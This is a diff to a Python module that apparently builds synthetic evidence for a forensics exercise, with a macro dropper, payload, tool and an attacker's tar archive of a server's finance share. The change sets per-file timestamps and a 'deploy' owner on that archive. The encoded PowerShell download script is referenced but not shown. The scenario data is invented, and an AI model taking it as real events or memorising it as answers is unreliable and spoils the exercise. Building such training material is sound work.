@@ -14,12 +14,12 @@ import random
 import struct
 import tarfile
 import zipfile
+from datetime import UTC, datetime
 from functools import cache
 
-__all__ = ["archive", "data_files", "dropper", "payload", "tool"]
+__all__ = ["DATA_OWNER", "archive", "data_files", "data_mtime", "dropper", "payload", "tool"]
 
 _ZIP_TIME = (2026, 3, 9, 16, 48, 0)
-_TAR_TIME = 1773100800  # 2026-03-10 00:00 UTC
 
 #: The macro's encoded PowerShell (UTF-16LE base64, as -EncodedCommand expects).
 DOWNLOAD_SCRIPT = (
@@ -101,6 +101,21 @@ def tool() -> bytes:
     return head.ljust(64, b"\x00") + _filler(24_000, "tool") + strings + _filler(4_000, "tool-tail")
 
 
+#: Owner of /srv/data on SRV01 (the web app's deploy account) and when each file last changed.
+DATA_OWNER = (1002, "deploy")
+_DATA_MTIMES = {
+    "2025-Q3": datetime(2026, 1, 8, 15, 2, 11, tzinfo=UTC), "2025-Q4": datetime(2026, 1, 20, 9, 47, 3, tzinfo=UTC),
+    "2026-Q1": datetime(2026, 2, 27, 16, 31, 40, tzinfo=UTC), "payroll": datetime(2026, 2, 26, 11, 5, 19, tzinfo=UTC),
+    "README": datetime(2026, 1, 5, 8, 12, 55, tzinfo=UTC),
+}  # fmt: skip
+
+
+def data_mtime(name: str) -> datetime:
+    """When the /srv/data file ``name`` (relative path) last changed: the image and the
+    attacker's tar archive both carry this time."""
+    return next(t for key, t in _DATA_MTIMES.items() if key in name)
+
+
 @cache
 def data_files() -> dict[str, bytes]:
     """The contents of SRV01's /srv/data (relative path -> bytes): the finance share."""
@@ -132,8 +147,8 @@ def archive() -> bytes:
     with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
         for name, data in sorted(data_files().items()):
             info = tarfile.TarInfo(f"srv/data/{name}")
-            info.size, info.mtime, info.mode = len(data), _TAR_TIME, 0o640
-            info.uid = info.gid = 1001
-            info.uname, info.gname = "bob", "bob"
+            info.size, info.mtime, info.mode = len(data), int(data_mtime(name).timestamp()), 0o640
+            info.uid = info.gid = DATA_OWNER[0]
+            info.uname = info.gname = DATA_OWNER[1]
             tar.addfile(info, io.BytesIO(data))
     return gzip.compress(raw.getvalue(), mtime=0)
